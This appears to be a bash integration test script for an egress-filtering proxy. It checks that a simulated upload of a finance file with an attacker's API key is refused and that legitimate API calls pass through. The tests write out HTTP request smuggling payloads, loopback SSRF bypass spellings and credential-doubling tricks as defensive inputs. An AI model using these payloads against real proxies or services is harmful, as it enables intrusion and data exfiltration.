#!/usr/bin/env bash
# airlock proxy between real clients (curl, python3 urllib, wget, raw sockets) and a recording
# upstream (tests/support/upstream.py) standing in for api.anthropic.com (TLS, inspected) and
# files.example.com (plain http). Every case asserts what the client got AND what reached the
# upstream, byte for byte: (a) the January 2026 incident upload with the attacker's key is
# refused and not one byte leaves; (b) the organisation's own model call arrives identical;
# (c) missing, misplaced and doubled keys; (d) plain http forwarding, bodies, keep-alive,
# responses; (e) hosts no sink names and IP-literal spellings of loopback; (f) CONNECT host
# versus Host header and SNI; (g) request smuggling shapes; (h) urllib and wget; --max-body;
# the audit trail, and no key in any output; (i) against a policy allowing only /v1/messages:
# dot segments and percent-encoding in paths, upper-case and trailing-dot hosts, a ClientHello
# without SNI, slowloris (hidden --header-timeout), a head over 64 KiB, a 20 MB upload.
#
# Contract (the proxy's command line): airlock proxy --listen ADDR:PORT [--policy FILE]
#   [--user U --agent A --session S] [--resolve HOST:PORT:ADDR]... [--upstream-ca FILE]
#   [--ready-file FILE] [--max-body BYTES] [--header-timeout SECONDS]; ready file {"port": N};
#   a denial is 403 with {"error": "<reason code>", "reason": "<text>"} and nothing sent upstream.
AIRLOCK=$1
SRC=$2
source "$(dirname "$0")/lib.sh"

source "$(dirname "$0")/lib_proxy.sh"

# Keys and card numbers are built by concatenation so that the repository does not look like
# it leaks.
ORG_KEY="sk-ant-api03-ORG""ANISATION-proxy-test-0000"
ATTACKER_KEY="sk-ant-api03-ATT""ACKER-proxy-test-1111"
ORG_SHA=$(printf '%s' "$ORG_KEY" | sha256sum | cut -d' ' -f1)
sha() { sha256sum "$1" | cut -d' ' -f1; }
mkdir -p "$HOME/Finance"
printf 'date,account,amount\n2026-01-05,%s,12000.00\n2026-01-06,card %s,-420.50\n' \
  "DE89 3704 0044 ""0532 0130 00" "4111 1111 ""1111 1111" >"$HOME/Finance/accounts.csv"
printf '{"model":"claude-x","max_tokens":64,"messages":[{"role":"user","content":"Summarise the meeting notes."}]}' \
  >"$WORK/message.json"
# harmless text bodies (nothing a detector could take for personal data)
python3 -c 'import sys
for i in range(int(sys.argv[1])): sys.stdout.write("line %07d of a harmless text file\n" % i)' 7000 >"$WORK/text.txt"
python3 -c 'import sys
for i in range(int(sys.argv[1])): sys.stdout.write("chunk-body line %07d, nothing to see\n" % i)' 60000 >"$WORK/text2.txt"

"$AIRLOCK" ca init >/dev/null
AIRLOCK_CA="$AIRLOCK_HOME/ca/ca.crt"
start_upstream "$WORK/up"
A="api.anthropic.com:$UP_HTTPS"   # the model API as the client addresses it
F="files.example.com:$UP_HTTP"    # the plain-http file host
T="tunnel.example.com:$UP_HTTPS"  # a sink with no inspection: CONNECT is a byte tunnel

POLICY="$WORK/policy.yaml"
cat >"$POLICY" <<YAML
version: 1
users:
  alice: { roles: [analyst] }
agents:
  cowork: { roles: [office-agent] }
classify:
  - { path: "~/Finance/**", label: "confidential{financial}" }
  - { detectors: [us_ssn, credit_card, iban], label: "confidential{pii}" }
sinks:
  anthropic-api:
    http: { hosts: [api.anthropic.com], methods: [POST], paths: ["/v1/messages", "/v1/files"] }
    credentials: { header: x-api-key, sha256: ["$ORG_SHA"] }
    clearance: "confidential{pii,financial}"
    inspect: true
  plain:
    http: { hosts: [files.example.com], methods: [GET, POST] }
    clearance: internal
  local:
    http: { hosts: [localhost], methods: [GET] }
    clearance: public
  passthru:
    http: { hosts: [tunnel.example.com] }
    clearance: public
roles:
  analyst:
    allow: [{ action: net.request, sink: [anthropic-api, plain, local, passthru] }]
  office-agent:
    allow: [{ action: net.request, sink: [anthropic-api, plain, local, passthru] }]
defaults: { decision: deny, non_interactive_ask: deny }
YAML
"$AIRLOCK" policy lint "$POLICY" >/dev/null 2>&1 || { bad "test policy does not lint"; "$AIRLOCK" policy lint "$POLICY" >&2 || true; }

# unknown.example.net resolves to the upstream too: only the policy keeps requests from it.
PROXY_ARGS=(--policy "$POLICY" --user alice --agent cowork --session s1
  --resolve "$A:127.0.0.1" --resolve "$F:127.0.0.1" --resolve "$T:127.0.0.1"
  --resolve "unknown.example.net:$UP_HTTP:127.0.0.1" --resolve "unknown.example.net:$UP_HTTPS:127.0.0.1"
  --upstream-ca "$UP_CA")
start_proxy "${PROXY_ARGS[@]}"

# expect_denied NAME CODE: the last request got 403 with the JSON error CODE (a CODE ending in
# "." is a prefix) and a reason, and nothing reached the upstream since the mark.
expect_denied() {
  local err
  expect_eq "$1: status" "$CODE" 403
  err=$(jget error <<<"$BODY")
  if [[ "$2" == *. ]]; then
    [[ "$err" == "$2"* ]] && ok || bad "$1: error [$err] does not start with [$2]"
  else
    expect_eq "$1: error" "$err" "$2"
  fi
  [ -n "$(jget reason <<<"$BODY")" ] && ok || bad "$1: no reason in [$BODY]"
  expect_nothing_upstream "$1"
}
expect_nothing_upstream() {
  expect_eq "$1: bytes upstream" "$(new_upstream_bytes)" 0
  expect_eq "$1: requests upstream" "$(new_upstream_requests)" 0
}
# expect_arrived NAME METHOD PATH FILE: exactly one request arrived since the mark, with that
# method and origin-form path, FILE's bytes as its body; the client got the upstream's answer.
expect_arrived() {
  local l
  expect_eq "$1: status" "$CODE" 200
  expect_eq "$1: requests upstream" "$(new_upstream_requests)" 1
  l=$(new_upstream_lines | tail -n 1)
  expect_eq "$1: method upstream" "$(jget method <<<"$l")" "$2"
  expect_eq "$1: path upstream" "$(jget path <<<"$l")" "$3"
  expect_eq "$1: body upstream" "$(jget body_sha256 <<<"$l")" "$(sha "$4")"
  expect_eq "$1: body length upstream" "$(jget body_len <<<"$l")" "$(stat -c %s "$4")"
  expect_eq "$1: the client got the upstream's answer" "$(jget body_sha256 <<<"$BODY")" "$(sha "$4")"
  UP_LINE=$l
}

# --- (a) THE INCIDENT: the finance file to the Files API with the attacker's key
upstream_mark
preq -H "x-api-key: $ATTACKER_KEY" -H 'anthropic-version: 2023-06-01' \
  --data-binary @"$HOME/Finance/accounts.csv" "https://$A/v1/files"
expect_denied "incident" deny.sink.credential_mismatch
expect_not_contains "incident: no key in the answer" "$BODY" "$ATTACKER_KEY"
upstream_mark
preq -H "x-api-key: $ATTACKER_KEY" -F "file=@$HOME/Finance/accounts.csv" "https://$A/v1/files"
expect_denied "incident as multipart (curl -F)" deny.sink.credential_mismatch
upstream_mark
preq -H "x-api-key: $ATTACKER_KEY" -H 'Transfer-Encoding: chunked' \
  --data-binary @"$HOME/Finance/accounts.csv" "https://$A/v1/files"
expect_denied "incident chunked" deny.sink.credential_mismatch

# --- (b) the organisation's own model call goes through, byte-identical
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H 'content-type: application/json' \
  --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_arrived "model call" POST /v1/messages "$WORK/message.json"
expect_eq "model call: over TLS" "$(jget tls <<<"$UP_LINE")" true
expect_eq "model call: SNI" "$(jget sni <<<"$UP_LINE")" api.anthropic.com
expect_eq "model call: Host" "$(jget headers.host <<<"$UP_LINE")" "$A"
expect_eq "model call: key forwarded" "$(jget headers.x-api-key <<<"$UP_LINE")" "$ORG_KEY"
# Inside one inspected tunnel, requests share one upstream TLS connection; a later tunnel to
# the same host resumes the upstream TLS session instead of a full handshake.
upstream_mark
OUT=$(pcurl -w '%{http_code}\n' -o /dev/null -o /dev/null -H "x-api-key: $ORG_KEY" -H 'content-type: application/json' \
  --data-binary @"$WORK/message.json" "https://$A/v1/messages" "https://$A/v1/messages")
expect_eq "inspected reuse: two answers" "$(tr '\n' ' ' <<<"$OUT")" "200 200 "
expect_eq "inspected reuse: two requests upstream" "$(new_upstream_requests)" 2
expect_eq "inspected reuse: one upstream TLS connection" "$(new_upstream_conns)" 1
preq -H "x-api-key: $ORG_KEY" -H 'content-type: application/json' --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_eq "new tunnel: answered" "$CODE" 200
expect_eq "new tunnel: upstream TLS session resumed" "$(grep '"event": "tls"' "$UP_DIR/events.jsonl" | tail -n 1 | jget resumed)" true

expect_eq "model call: content type" "$(jget headers.content-type <<<"$UP_LINE")" application/json
upstream_mark
preq -H "X-API-KEY: $ORG_KEY" -H 'Transfer-Encoding: chunked' \
  --data-binary @"$WORK/text2.txt" "https://$A/v1/messages"
expect_arrived "model call, 2 MB chunked, header name in capitals" POST /v1/messages "$WORK/text2.txt"
upstream_mark
preq -H "x-api-key: $ORG_KEY" -F "file=@$WORK/text.txt" "https://$A/v1/files"
expect_eq "upload with the org key: status" "$CODE" 200
expect_eq "upload with the org key: arrived" "$(new_upstream_requests)" 1
expect_contains "upload with the org key: multipart intact" "$(new_upstream_lines | jget headers.content-type)" "multipart/form-data; boundary="
upstream_mark
preq -H "x-api-key: $ORG_KEY" "https://$A/v1/messages"
expect_denied "GET on a POST-only sink" deny.sink.method_not_allowed
upstream_mark
preq -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/organizations/keys"
expect_denied "a path the sink does not list" deny.sink.path_not_allowed

# --- (c) the key missing, in the wrong header, or doubled
upstream_mark
preq --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "no key" deny.sink.credential_mismatch
upstream_mark
preq -H "Authorization: Bearer $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "org key as Bearer instead of x-api-key" deny.sink.credential_mismatch
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H "x-api-key: $ATTACKER_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "org key and attacker key" deny.sink.credential_mismatch
upstream_mark
preq -H "x-api-key: $ATTACKER_KEY" -H "x-api-key: $ORG_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "attacker key first, org key second" deny.sink.credential_mismatch
upstream_mark
preq -H "x-api-key: ${ORG_KEY}x" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "org key with a byte added" deny.sink.credential_mismatch
upstream_mark
# The org key where it is checked and the attacker's where the receiver may prefer it.
preq -H "x-api-key: $ORG_KEY" -H "Authorization: Bearer $ATTACKER_KEY" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "org key plus an attacker Bearer token" deny.sink.credential_mismatch
upstream_mark
# The checked header named in Connection (so a proxy drops it) and the attacker's key beside it:
# the gate decides on exactly what is sent, so this is the attacker's key alone.
preq -H "x-api-key: $ORG_KEY" -H "Authorization: Bearer $ATTACKER_KEY" -H "Connection: close, x-api-key" \
  --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "org key dropped through Connection, attacker key sent" deny.sink.credential_mismatch

# --- (d) plain http to files.example.com, absolute-form through the proxy
upstream_mark
preq -H 'Connection: keep-alive, X-Hop' -H 'X-Hop: for the proxy only' "http://$F/hello?x=1"
expect_eq "GET: status" "$CODE" 200
expect_eq "GET: arrived" "$(new_upstream_requests)" 1
L=$(new_upstream_lines | tail -n 1)
expect_eq "GET: origin-form upstream" "$(jget path <<<"$L")" "/hello?x=1"
expect_eq "GET: Host upstream" "$(jget headers.host <<<"$L")" "$F"
expect_eq "GET: plain" "$(jget tls <<<"$L")" false
expect_eq "GET: a header named in Connection is not forwarded (RFC 9110 §7.6.1)" "$(jget headers.x-hop <<<"$L")" ""
expect_eq "GET: the upstream saw other headers" "$(jget headers.user-agent <<<"$L" | cut -d/ -f1)" curl
upstream_mark
preq --data-binary @"$WORK/text.txt" "http://$F/upload"
expect_arrived "POST Content-Length" POST /upload "$WORK/text.txt"
upstream_mark
preq -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/text2.txt" "http://$F/upload-chunked"
expect_arrived "POST chunked" POST /upload-chunked "$WORK/text2.txt"
upstream_mark
OUT=$(pcurl -w '%{num_connects}\n' -o /dev/null -o /dev/null "http://$F/one" "http://$F/two")
expect_eq "keep-alive: one connection to the proxy for two requests" "$OUT" "1
0"
expect_eq "keep-alive: both arrived" "$(new_upstream_lines | while read -r l; do jget path <<<"$l"; done | tr '\n' ' ')" "/one /two "
# Upstream connections are kept between one client connection's requests to the same place,
# and dropped when either side closes or the destination changes.
upstream_mark
OUT=$(pcurl -w '%{http_code}\n' -o /dev/null -o /dev/null -o /dev/null "http://$F/k1" "http://$F/k2" "http://$F/k3")
expect_eq "reuse: three answers" "$(tr '\n' ' ' <<<"$OUT")" "200 200 200 "
expect_eq "reuse: three requests upstream" "$(new_upstream_requests)" 3
expect_eq "reuse: over one upstream connection" "$(new_upstream_conns)" 1
upstream_mark
OUT=$(pcurl -w '%{http_code}\n' -o /dev/null -o /dev/null "http://$F/close" "http://$F/after-close")
expect_eq "upstream said close: both answered" "$(tr '\n' ' ' <<<"$OUT")" "200 200 "
expect_eq "upstream said close: a new connection for the next request" "$(new_upstream_conns)" 2
upstream_mark
OUT=$(pcurl -w '%{http_code}\n' -o /dev/null -o /dev/null "http://$F/hangup" "http://$F/after-hangup")
expect_eq "upstream hung up while promising keep-alive: both answered" "$(tr '\n' ' ' <<<"$OUT")" "200 200 "
expect_eq "upstream hung up: the next request went over a new connection" "$(new_upstream_conns)" 2
expect_eq "upstream hung up: each request arrived once" "$(new_upstream_lines | while read -r l; do jget path <<<"$l"; done | tr '\n' ' ')" "/hangup /after-hangup "
# The SSRF check is made for every request: a kept connection to an allowed host does not let
# the next request on the same client connection reach a name that resolves to loopback.
upstream_mark
OUT=$(pcurl -w '%{http_code}\n' -o /dev/null -o /dev/null "http://$F/first" "http://localhost:$UP_HTTP/second")
expect_eq "reuse and SSRF: allowed, then denied" "$(tr '\n' ' ' <<<"$OUT")" "200 403 "
expect_eq "reuse and SSRF: only the first arrived" "$(new_upstream_lines | while read -r l; do jget path <<<"$l"; done | tr '\n' ' ')" "/first "
# responses come back as the upstream sent them
preq "http://$F/chunked?n=4"
expect_eq "chunked response" "$BODY" "chunk 1
chunk 2
chunk 3
chunk 4"
pcurl -D "$WORK/h" -o "$WORK/big.out" "http://$F/big?n=3000000"
expect_contains "big response: checksum header" "$(tr -d '\r' <"$WORK/h")" "X-Body-Sha256: $(sha "$WORK/big.out")"
expect_eq "big response: size" "$(stat -c %s "$WORK/big.out")" 3000000
preq -D "$WORK/h" "http://$F/redirect?to=http://unknown.example.net/next"
expect_eq "redirect: status passed on" "$CODE" 302
expect_contains "redirect: Location passed on" "$(tr -d '\r' <"$WORK/h")" "Location: http://unknown.example.net/next"
preq "http://$F/status/404"
expect_eq "404 passed on" "$CODE" 404
preq "http://$F/slow?parts=3&delay=0.1"
expect_eq "slow response: whole" "$(jget path <<<"$BODY")" "/slow?parts=3&delay=0.1"
upstream_mark
preq -X DELETE "http://$F/x"
expect_denied "DELETE on a GET/POST sink" deny.sink.method_not_allowed

# --- (e) hosts no sink names; IP literals of loopback (the upstream listens there)
upstream_mark
preq "http://unknown.example.net:$UP_HTTP/"
expect_denied "unknown host" deny.sink.unknown
upstream_mark
preq --data-binary @"$WORK/text.txt" "http://unknown.example.net:$UP_HTTP/upload"
expect_denied "POST to an unknown host" deny.sink.unknown
upstream_mark
preq "https://unknown.example.net:$UP_HTTPS/"
expect_eq "CONNECT to an unknown host: refused" "$CONNECT_CODE" 403
expect_nothing_upstream "CONNECT to an unknown host"
upstream_mark
OUT=$(: | raw_http --connect "unknown.example.net:$UP_HTTPS" "$PROXY_PORT")
expect_eq "raw CONNECT to an unknown host: 403" "$(jget connect_status <<<"$OUT")" 403
expect_eq "raw CONNECT to an unknown host: error" "$(jget body <<<"$OUT" | jget error)" deny.sink.unknown
expect_nothing_upstream "raw CONNECT to an unknown host"
upstream_mark
preq "http://127.0.0.1:$UP_HTTP/"
expect_denied "curl to 127.0.0.1" deny.
for host in 2130706433 0x7f.1 0177.0.0.1 127.1 "[::ffff:127.0.0.1]" "[::ffff:7f00:1]"; do
  upstream_mark
  OUT=$(printf 'GET http://%s:%s/ HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n' \
    "$host" "$UP_HTTP" "$host" "$UP_HTTP" | raw_http "$PROXY_PORT")
  expect_eq "IP literal $host: 403" "$(jget status <<<"$OUT")" 403
  [[ "$(jget body <<<"$OUT" | jget error)" == deny.* ]] && ok || bad "IP literal $host: error in [$OUT]"
  expect_nothing_upstream "IP literal $host"
done
for target in "127.0.0.1:$UP_HTTPS" "2130706433:$UP_HTTPS" "[::ffff:127.0.0.1]:$UP_HTTPS"; do
  upstream_mark
  OUT=$(: | raw_http --connect "$target" "$PROXY_PORT")
  expect_eq "CONNECT $target: 403" "$(jget connect_status <<<"$OUT")" 403
  expect_nothing_upstream "CONNECT $target"
done
# A declared sink whose name resolves (no --resolve) to a loopback address: SSRF protection
# refuses to connect to it (contract assumption; --resolve is the tests' explicit override).
upstream_mark
preq "http://localhost:$UP_HTTP/"
expect_denied "sink resolving to loopback" deny.
# The absolute URL decides, whatever Host says: refused, or forwarded with the URL's authority.
upstream_mark
OUT=$(printf 'GET http://%s/host-mismatch HTTP/1.1\r\nHost: unknown.example.net:%s\r\nConnection: close\r\n\r\n' \
  "$F" "$UP_HTTP" | raw_http "$PROXY_PORT")
if [ "$(jget status <<<"$OUT")" = 200 ]; then
  expect_eq "absolute URL vs Host: Host upstream is the URL's" "$(new_upstream_lines | tail -n 1 | jget headers.host)" "$F"
else
  expect_eq "absolute URL vs Host: refused" "$(jget status <<<"$OUT")" 403
  expect_nothing_upstream "absolute URL vs Host"
fi

# --- pass-through tunnels (a sink with no inspection, methods, paths or credentials): the
# client does TLS with upstream itself (it verifies the upstream's own certificate, not
# airlock's), and bytes go both ways unchanged, whatever their size.
upstream_mark
tcurl() { curl --silent --show-error --max-time 60 --noproxy '' --proxy "http://127.0.0.1:$PROXY_PORT" --cacert "$UP_CA" "$@"; }
_lp_req tcurl --data-binary @"$WORK/text2.txt" "https://$T/through"
expect_arrived "pass-through tunnel" POST /through "$WORK/text2.txt"
expect_eq "pass-through tunnel: SNI upstream is the client's" "$(jget sni <<<"$UP_LINE")" tunnel.example.com
upstream_mark
OUT=$(tcurl -w '%{http_code}\n' -o /dev/null -o "$WORK/tunnel-big.out" "https://$T/one" "https://$T/big?n=5000000")
expect_eq "pass-through keep-alive: two answers" "$(tr '\n' ' ' <<<"$OUT")" "200 200 "
expect_eq "pass-through keep-alive: one upstream connection" "$(new_upstream_conns)" 1
expect_eq "pass-through download: size" "$(stat -c %s "$WORK/tunnel-big.out")" 5000000
expect_eq "pass-through download: bytes" "$(sha "$WORK/tunnel-big.out")" \
  "$(python3 -c 'import sys,hashlib
p=b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_"; n=5000000
print(hashlib.sha256((p*(n//64+1))[:n]).hexdigest())')"
# A client that tries to talk to its own CA's name through the tunnel fails: the proxy does not
# terminate TLS here, so airlock's CA is not what the client sees.
_lp_req pcurl "https://$T/with-airlock-ca"
[ "$RC" != 0 ] && ok || bad "pass-through tunnel verified against airlock's CA: it was intercepted"

# --- (f) inside a CONNECT tunnel the request must be for the CONNECT host
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H "Host: $F" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "CONNECT api.anthropic.com, Host files.example.com" deny.
upstream_mark
preq -H "x-api-key: $ORG_KEY" -H "Host: unknown.example.net" --data-binary @"$WORK/message.json" "https://$A/v1/messages"
expect_denied "CONNECT api.anthropic.com, Host unknown.example.net" deny.
# SNI for another host than CONNECT named (hostname check off: only the proxy can stop it)
upstream_mark
OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
  "$A" "$ORG_KEY" | raw_http --connect "$A" --tls files.example.com --cacert "$AIRLOCK_CA" --no-hostname-check "$PROXY_PORT")
[ "$(jget status <<<"$OUT")" != 200 ] && ok || bad "SNI files.example.com in a tunnel to api.anthropic.com went through: $OUT"
expect_nothing_upstream "SNI mismatch"
# the same raw request with the right SNI does go through (the check above can fail)
upstream_mark
OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
  "$A" "$ORG_KEY" | raw_http --connect "$A" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT")
expect_eq "raw TLS request with the right SNI: status" "$(jget status <<<"$OUT")" 200
expect_eq "raw TLS request with the right SNI: arrived" "$(new_upstream_requests)" 1

# --- (g) smuggling shapes: refused (400 or 403), nothing upstream
smuggle() { # NAME HEADERS BODY (both with \r\n escapes): raw POST to files.example.com, a sink that accepts POST
  upstream_mark
  OUT=$(printf 'POST http://%s/smuggle HTTP/1.1\r\nHost: %s\r\n%b\r\n%b' "$F" "$F" "$2" "$3" | raw_http "$PROXY_PORT")
  case "$(jget status <<<"$OUT")" in 400 | 403) ok ;; *) bad "$1: status [$(jget status <<<"$OUT")], want 400 or 403: $OUT" ;; esac
  expect_nothing_upstream "$1"
}
upstream_mark
OUT=$(printf 'POST http://%s/control HTTP/1.1\r\nHost: %s\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello' \
  "$F" "$F" | raw_http "$PROXY_PORT")
expect_eq "control: a well-formed raw POST passes" "$(jget status <<<"$OUT")" 200
expect_eq "control: it arrived" "$(new_upstream_requests)" 1
SMUGGLED="GET http://$F/smuggled HTTP/1.1\r\nHost: $F\r\n\r\n"
smuggle "CL+TE" 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n' "0\r\n\r\n$SMUGGLED"
smuggle "TE+CL" 'Transfer-Encoding: chunked\r\nContent-Length: 40\r\n' "0\r\n\r\n$SMUGGLED"
smuggle "two different Content-Lengths" 'Content-Length: 5\r\nContent-Length: 44\r\n' "hello$SMUGGLED"
smuggle "Content-Length list" 'Content-Length: 5, 44\r\n' "hello$SMUGGLED"
smuggle "Content-Length with a sign" 'Content-Length: +5\r\n' "hello$SMUGGLED"
smuggle "Transfer-Encoding not ending in chunked" 'Transfer-Encoding: chunked, identity\r\n' "0\r\n\r\n$SMUGGLED"
smuggle "Transfer-Encoding unknown" 'Transfer-Encoding: xchunked\r\n' "0\r\n\r\n$SMUGGLED"
smuggle "space before the colon" 'Transfer-Encoding : chunked\r\nContent-Length: 5\r\n' "0\r\n\r\n$SMUGGLED"
smuggle "folded Transfer-Encoding" 'Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n' "0\r\n\r\n$SMUGGLED"
# inside the inspected tunnel, with the org key (otherwise allowed)
upstream_mark
OUT=$(printf 'POST /v1/messages HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\n\r\n{}' \
  "$A" "$ORG_KEY" "$A" "$ATTACKER_KEY" | raw_http --connect "$A" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT")
case "$(jget status <<<"$OUT")" in 400 | 403) ok ;; *) bad "CL+TE in the tunnel: status [$(jget status <<<"$OUT")]: $OUT" ;; esac
expect_nothing_upstream "CL+TE in the tunnel"

# --- (h) python3 urllib and wget through the proxy
upstream_mark
OUT=$(python3 -c '
import json, ssl, sys, urllib.error, urllib.request
proxy, ca, a, f, org, bad, msg = sys.argv[1:8]
ctx = ssl.create_default_context(cafile=ca)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": proxy, "https": proxy}),
                                     urllib.request.HTTPSHandler(context=ctx))
body = open(msg, "rb").read()
def post(url, key):
    req = urllib.request.Request(url, data=body, method="POST", headers={"x-api-key": key, "content-type": "application/json"})
    try:
        r = opener.open(req, timeout=60)
        return r.status, json.load(r).get("body_sha256")
    except urllib.error.HTTPError as e:
        return e.code, json.load(e).get("error")
print(*post("https://%s/v1/messages" % a, org))
print(*post("https://%s/v1/files" % a, bad))
r = opener.open("http://%s/urllib-get" % f, timeout=60)
print(r.status, json.load(r)["path"])
r = opener.open(urllib.request.Request("http://%s/urllib-post" % f, data=body, method="POST"), timeout=60)
print(r.status, json.load(r)["body_sha256"])
' "$PROXY_URL" "$AIRLOCK_CA" "$A" "$F" "$ORG_KEY" "$ATTACKER_KEY" "$WORK/message.json" 2>&1)
MSG_SHA=$(sha "$WORK/message.json")
expect_eq "urllib: answers" "$OUT" "200 $MSG_SHA
403 deny.sink.credential_mismatch
200 /urllib-get
200 $MSG_SHA"
expect_eq "urllib: three requests arrived" "$(new_upstream_requests)" 3
expect_eq "urllib: the denied one did not" "$(new_upstream_lines | grep -c '"/v1/files"' || true)" 0
upstream_mark
WGET=(wget -q -O - --timeout=60 --tries=1 -e use_proxy=yes -e "http_proxy=$PROXY_URL" -e "https_proxy=$PROXY_URL"
  --ca-certificate="$AIRLOCK_CA")
OUT=$("${WGET[@]}" --header "x-api-key: $ORG_KEY" --header 'content-type: application/json' \
  --post-file="$WORK/message.json" "https://$A/v1/messages")
expect_eq "wget model call: body arrived" "$(jget body_sha256 <<<"$OUT")" "$MSG_SHA"
set +e
OUT=$("${WGET[@]}" --content-on-error --header "x-api-key: $ATTACKER_KEY" \
  --post-file="$HOME/Finance/accounts.csv" "https://$A/v1/files")
rc=$?
set -e
expect_eq "wget incident: server error exit" "$rc" 8
expect_eq "wget incident: error" "$(jget error <<<"$OUT")" deny.sink.credential_mismatch
OUT=$("${WGET[@]}" --post-file="$WORK/text.txt" "http://$F/wget-post")
expect_eq "wget plain POST: body arrived" "$(jget body_sha256 <<<"$OUT")" "$(sha "$WORK/text.txt")"
OUT=$("${WGET[@]}" "http://$F/wget-get")
expect_eq "wget plain GET" "$(jget path <<<"$OUT")" /wget-get
expect_eq "wget: three requests arrived" "$(new_upstream_requests)" 3

# --- the audit trail has the incident on record, and no key anywhere
EXPORT=$("$AIRLOCK" audit export --format jsonl)
INCIDENT=$(python3 -c '
import json, sys
n = 0
for line in sys.stdin:
    r = json.loads(line)
    if (r.get("reason") == "deny.sink.credential_mismatch" and r.get("decision") == "deny"
            and "api.anthropic.com" in (r.get("resource") or "") and "/v1/files" in (r.get("resource") or "")
            and r.get("user") == "alice" and r.get("agent") == "cowork" and r.get("session") == "s1"):
        n += 1
print(n)' <<<"$EXPORT")
[ "$INCIDENT" -ge 1 ] && ok || bad "audit: no deny.sink.credential_mismatch record for POST /v1/files by alice/cowork/s1"
expect_contains "audit: the model call is on record" "$EXPORT" "/v1/messages"
"$AIRLOCK" audit verify >/dev/null && ok || bad "audit verify"
for key in "$ATTACKER_KEY" "$ORG_KEY"; do
  expect_not_contains "no key in the audit trail" "$EXPORT" "$key"
  grep -qF -- "$key" "$PROXY_LOG" && bad "a key is in the proxy's output" || ok
done

stop_proxy
grep -qE 'AddressSanitizer|LeakSanitizer|runtime error:' "$PROXY_LOG" &&
  bad "sanitizer report in the proxy's output: $(head -c 2000 "$PROXY_LOG")" || ok

# --- --max-body: a body over the limit is not forwarded (fail closed), one under it is
start_proxy "${PROXY_ARGS[@]}" --max-body 4096
head -c 3000 "$WORK/text.txt" >"$WORK/small.txt"
upstream_mark
preq --data-binary @"$WORK/small.txt" "http://$F/small"
expect_arrived "under --max-body" POST /small "$WORK/small.txt"
upstream_mark
preq --data-binary @"$WORK/text.txt" "http://$F/too-big"
case "$CODE" in 403 | 413) ok ;; *) bad "over --max-body: status [$CODE], want 403 or 413" ;; esac
expect_nothing_upstream "over --max-body"
upstream_mark
preq -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/text.txt" "http://$F/too-big-chunked"
case "$CODE" in 403 | 413) ok ;; *) bad "over --max-body, chunked: status [$CODE], want 403 or 413" ;; esac
expect_nothing_upstream "over --max-body, chunked"
stop_proxy

# --- (i) adversarial request heads and paths, against a stricter policy: the model API sink
# allows only POST /v1/messages; the hidden --header-timeout makes slowloris testable.
POLICY_STRICT="$WORK/policy-strict.yaml"
sed 's|paths: \["/v1/messages", "/v1/files"\]|paths: ["/v1/messages"]|' "$POLICY" >"$POLICY_STRICT"
grep -qF 'paths: ["/v1/messages"] }' "$POLICY_STRICT" && ok || bad "strict policy: the paths line was not rewritten"
# ... and a pass-through sink named by an address (the upstream's): a tunnel to an IP literal.
sed -i -e 's|^  passthru:$|  by-address:\n    http: { hosts: ["127.0.0.1"] }\n    clearance: public\n  passthru:|' \
  -e 's|sink: \[anthropic-api, plain, local, passthru\]|sink: [anthropic-api, plain, local, passthru, by-address]|g' "$POLICY_STRICT"
[ "$(grep -c 'by-address' "$POLICY_STRICT")" = 3 ] && ok || bad "strict policy: the by-address sink was not added"
STRICT_ARGS=("${PROXY_ARGS[@]}")
STRICT_ARGS[1]="$POLICY_STRICT"
start_proxy "${STRICT_ARGS[@]}" --header-timeout 2 --idle-timeout 3
# tunnel_post PATH [HOST_HEADER]: a raw POST of {} with the org key inside the inspected tunnel to
# api.anthropic.com; prints raw_http's JSON.
tunnel_post() {
  printf 'POST %s HTTP/1.1\r\nHost: %s\r\nx-api-key: %s\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}' \
    "$1" "${2:-$A}" "$ORG_KEY" | raw_http --connect "$A" --tls api.anthropic.com --cacert "$AIRLOCK_CA" "$PROXY_PORT"
}
# expect_raw_denied NAME CODE: raw_http's answer ($OUT) is 403 with CODE, and nothing went upstream.
expect_raw_denied() {
  expect_eq "$1: status" "$(jget status <<<"$OUT")" 403
  expect_eq "$1: error" "$(jget body <<<"$OUT" | jget error)" "$2"
  expect_nothing_upstream "$1"
}

# The control: the one allowed path goes through.
upstream_mark
OUT=$(tunnel_post /v1/messages)
expect_eq "strict: /v1/messages passes" "$(jget status <<<"$OUT")" 200
expect_eq "strict: /v1/messages arrived as itself" "$(new_upstream_lines | tail -n 1 | jget path)" /v1/messages
